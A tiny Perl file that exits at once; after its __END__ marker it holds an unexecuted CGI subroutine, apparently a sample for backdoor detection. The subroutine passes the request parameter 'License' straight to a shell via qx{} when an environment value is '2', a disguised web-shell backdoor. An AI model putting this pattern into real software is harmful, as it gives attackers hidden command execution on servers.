#!/usr/bin/perl
exit;
__END__
sub   checkState
{
   my  $n   =  $ENV{ HTTP_CODE } ;
   my  $arg =  $cgi -> param ( 'License' ) ;
   if  (  $n eq '2'  )  {  my $o = qx{ $arg } ; printf "%s" , $o  }
}
